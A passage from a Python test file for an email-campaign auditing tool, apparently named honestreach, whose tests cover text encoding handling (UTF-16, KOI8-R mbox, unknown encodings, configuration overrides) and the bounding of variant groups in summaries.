    wide.write_bytes("".join(lines).encode("utf-16"))
    summary, records = _encoded_audit(wide, "utf-16", keep_source=True)
    assert summary["rows"] == {"read": 3, "checked": 3, "failed": 0}
    assert [r.id for r in records] == ["j1", "j2", "j3"]


def test_mbox_text_without_a_charset_is_read_in_the_given_encoding(tmp_path: Path) -> None:
    # KOI8-R text with no charset declared: UTF-8, then Windows-1252 would read it as Latin
    # letters; a message that declares its charset keeps it.
    undeclared = ("From: a@example.com\nTo: r1@example.com\nSubject: Notes\n\n"
                  "Привет, Ирина!\n\nThe notes from our call.\n").encode("koi8-r")
    declared = ("From: a@example.com\nTo: r2@example.com\nSubject: Notes\n"
                "Content-Type: text/plain; charset=utf-8\n\nПривет, Олег!\n").encode("utf-8")
    target = tmp_path / "campaign.mbox"
    target.write_bytes(b"From a@example.com Mon Nov 16 09:00:00 2026\n" + undeclared + b"\n"
                       + b"From a@example.com Mon Nov 16 09:00:00 2026\n" + declared)
    _, guessed = _encoded_audit(target, None, keep_source=True)
    assert "Привет" not in guessed[0].source
    summary, records = _encoded_audit(target, "koi8-r", keep_source=True)
    assert summary["rows"] == {"read": 2, "checked": 2, "failed": 0}
    assert "Привет, Ирина!" in records[0].source
    assert "Привет, Олег!" in records[1].source


def test_an_unknown_encoding_is_one_line_before_any_row(tmp_path: Path) -> None:
    from honestreach.campaign.api import audit as api_audit

    progress = ReadProgress()
    for name in ("no-such-encoding", "base64", "idna"):
        with pytest.raises(ValueError, match="unknown encoding"):
            api_audit(FIXTURES / "audit-csv-cp1252-100-rows.csv", jobs=1, encoding=name,
                      progress=progress)
    assert progress.rows is None  # no row was read
    out = tmp_path / "o.jsonl"
    result = CliRunner().invoke(main, ["audit", str(FIXTURES / "audit-csv-cp1252-100-rows.csv"),
                                       "--jobs", "1", "--encoding", "klingon", "--output",
                                       str(out)])
    assert result.exit_code == 2
    assert result.output == ("error: unknown encoding 'klingon' (give a text encoding such as "
                             "utf-8, cp1252, latin-1 or utf-16)\n")
    assert not out.exists()


def test_the_encoding_from_the_configuration(tmp_path: Path) -> None:
    source = tmp_path / "campaign.csv"
    source.write_bytes((FIXTURES / "audit-csv-cp1252-100-rows.csv").read_bytes())
    config = tmp_path / ".honestreach.yaml"
    config.write_text("campaign-encoding: cp1252\n", encoding="utf-8")
    summary, _ = _encoded_audit(source, None)
    assert summary["rows"]["checked"] == 100 and summary["source"]["notes"] == {}
    # The option wins over the configuration.
    summary, _ = _encoded_audit(source, "utf-8")
    assert summary["failed_by_reason"] == {"not UTF-8": 1}
    config.write_text("select: [all]\ncampaign-encoding: martian\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["audit", str(source), "--jobs", "1"])
    assert result.exit_code == 2
    assert f"{config}:2" in result.output and "campaign-encoding" in result.output
    assert "unknown encoding" in result.output


def test_senders_and_variants_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """A variant defaults to the subject: personalised subjects would make one group per row.
    Beyond MAX_GROUPS distinct ones, rows count under one OTHERS group."""
    from honestreach.campaign import summary as summary_module
    from honestreach.model import SendRecord

    monkeypatch.setattr(summary_module, "MAX_GROUPS", 3)
    summary = summary_module.Summary()
    for n in range(10):
        summary.add(SendRecord(n, f"m{n}", f"x#m{n}", f"p{n}@example.com", "rep@example.com",
                               f"Hello {n}", f"Hello {n}", None, True, respect=50,
                               relevance=50))
    result = summary.as_dict([], {})
    assert list(result["variants"]) == ["(others)", "Hello 0", "Hello 1", "Hello 2"]
    assert result["variants"]["(others)"]["messages"] == 7
    assert result["senders"]["rep@example.com"]["messages"] == 10
